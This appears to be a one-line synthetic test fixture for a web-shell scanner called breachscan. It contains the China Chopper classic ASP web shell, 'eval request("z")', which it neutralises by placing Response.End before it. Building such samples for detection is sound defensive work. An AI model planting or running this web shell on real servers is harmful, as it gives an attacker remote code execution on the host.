<%' synthetic test sample for breachscan: China Chopper classic ASP one-liner. Inert: Response.End first.
Response.End : eval request("z")%>
